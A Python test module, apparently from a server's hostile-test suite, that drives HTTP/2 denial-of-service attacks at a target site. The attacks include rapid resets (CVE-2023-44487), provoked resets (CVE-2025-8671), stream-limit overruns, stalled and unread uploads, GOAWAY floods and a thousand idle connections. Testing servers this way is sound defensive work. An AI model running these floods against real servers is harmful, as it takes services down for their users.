"""Streams: taken back, reset by the site, too many of them, and such as never end."""

from collections.abc import Iterator
from itertools import count

import trio

from tests.hostile.attacks.http2.connection import (
    GET,
    POST,
    HostileConnection,
    attack_over_http2,
    head,
    headers,
    reset,
    window_update,
)
from tests.hostile.target import TargetSite
from tests.support.http2_frames import END_HEADERS, END_STREAM, FrameType, frame

STREAMS = 100
FEW, IDLE = 4, 1000
"""Connections: so few that each soon reaches its limits, and very many."""
DEAF = head("POST", "/deaf")
LARGEST_WINDOW = 2**31 - 1


def ids() -> Iterator[int]:
    return count(1, 2)


async def rapid_resets(target: TargetSite) -> None:
    """CVE-2023-44487: requests that are taken back at once."""

    async def attack(connection: HostileConnection) -> None:
        await connection.send_each(headers(stream) + reset(stream) for stream in ids())

    await attack_over_http2(target, attack, connections=FEW)


async def rapid_resets_of_uploads(target: TargetSite) -> None:
    """The same with half a body each."""

    async def attack(connection: HostileConnection) -> None:
        await connection.send_each(
            headers(stream, POST, END_HEADERS)
            + frame(FrameType.DATA, stream, bytes(1000))
            + reset(stream)
            for stream in ids()
        )

    await attack_over_http2(target, attack, connections=FEW)


def _provoking(stream: int) -> bytes:
    """A request, and one of the reasons for the site to reset it."""
    to_itself = stream.to_bytes(4) + b"\0"
    priority = END_STREAM | END_HEADERS | 0x20
    ways = (
        headers(stream, POST, END_HEADERS) + window_update(stream, 0),
        headers(stream, POST, END_HEADERS) + window_update(stream, LARGEST_WINDOW),
        headers(stream, POST, END_HEADERS) + frame(FrameType.PRIORITY, stream, to_itself),
        headers(stream, POST, END_HEADERS) + frame(FrameType.PRIORITY, stream, b""),
        headers(stream, to_itself + GET, priority),
        headers(stream, b"\x82"),
        headers(stream, POST, END_HEADERS) + headers(stream, b"\x82"),
        headers(stream, POST + b"\x0f\x0d\x011", END_HEADERS)
        + frame(FrameType.DATA, stream, b"xx", END_STREAM),
    )
    return ways[stream // 2 % len(ways)]


async def provoked_resets(target: TargetSite) -> None:
    """CVE-2025-8671 (MadeYouReset): requests that the site itself has to reset."""

    async def attack(connection: HostileConnection) -> None:
        await connection.send_each(_provoking(stream) for stream in ids())

    await attack_over_http2(target, attack, connections=FEW)


async def beyond_the_limit(target: TargetSite) -> None:
    """More streams than may be open."""

    async def attack(connection: HostileConnection) -> None:
        await connection.send_each(headers(stream, POST, END_HEADERS) for stream in ids())

    await attack_over_http2(target, attack, connections=FEW)


async def stalled_uploads(target: TargetSite) -> None:
    """A hundred uploads on each connection, which stop after as much as the windows allow."""
    await _upload(target, ends=False)


async def unanswered_uploads(target: TargetSite) -> None:
    """A hundred uploads on each connection, whole ones, to an app that never answers."""
    await _upload(target, ends=True)


async def _upload(target: TargetSite, *, ends: bool) -> None:
    part = bytes(16_000)

    async def attack(connection: HostileConnection) -> None:
        for _, stream in zip(range(STREAMS), ids(), strict=False):
            await connection.send(headers(stream, POST, END_HEADERS))
            for flags in (0, 0, 0, END_STREAM if ends else 0):
                await connection.send(frame(FrameType.DATA, stream, part, flags))
        await trio.sleep_forever()

    await attack_over_http2(target, attack)


async def uploads_that_nobody_reads(target: TargetSite) -> None:
    """A hundred uploads on each connection, to an app that takes none, as large as may be."""

    async def attack(connection: HostileConnection) -> None:
        streams = range(1, 2 * STREAMS, 2)
        await connection.send_each(headers(stream, DEAF, END_HEADERS) for stream in streams)
        while len(connection.widened) < STREAMS:
            await trio.sleep(0.05)
        for _ in range(62):
            for stream in streams:
                await connection.send(frame(FrameType.DATA, stream, bytes(16_000)))
        await trio.sleep_forever()

    await attack_over_http2(target, attack)


async def goaways(target: TargetSite) -> None:
    """GOAWAY with open streams, more of them, and requests all the same."""
    goaway = frame(FrameType.GOAWAY, 0, bytes(8))

    async def attack(connection: HostileConnection) -> None:
        await connection.send_each(
            headers(stream) + goaway + headers(stream + 2, POST, END_HEADERS) + goaway
            for stream in count(1, 4)
        )

    await attack_over_http2(target, attack)


async def requests(target: TargetSite) -> None:
    """As many requests as may be open, again and again, as an ordinary but busy client sends."""

    async def attack(connection: HostileConnection) -> None:
        stream_ids, open_streams = ids(), 0
        while True:
            missing = STREAMS - open_streams
            await connection.send_each(headers(next(stream_ids)) for _ in range(missing))
            open_streams += missing
            while open_streams == STREAMS:
                type_, flags, _ = await connection.receive()
                ends = type_ in (FrameType.DATA, FrameType.HEADERS) and flags & END_STREAM
                open_streams -= bool(ends)

    await attack_over_http2(target, attack, reads=False, connections=2)


async def idle(target: TargetSite) -> None:
    """A thousand connections that have asked once."""

    async def attack(connection: HostileConnection) -> None:
        await connection.send(headers(1))
        await trio.sleep_forever()

    await attack_over_http2(target, attack, connections=IDLE)


async def hasty_goodbyes(target: TargetSite) -> None:
    """A hundred requests, and then the end of the connection, before any answer."""

    async def attack(connection: HostileConnection) -> None:
        await connection.send_each(headers(2 * stream + 1) for stream in range(STREAMS))

    await attack_over_http2(target, attack, reads=False)
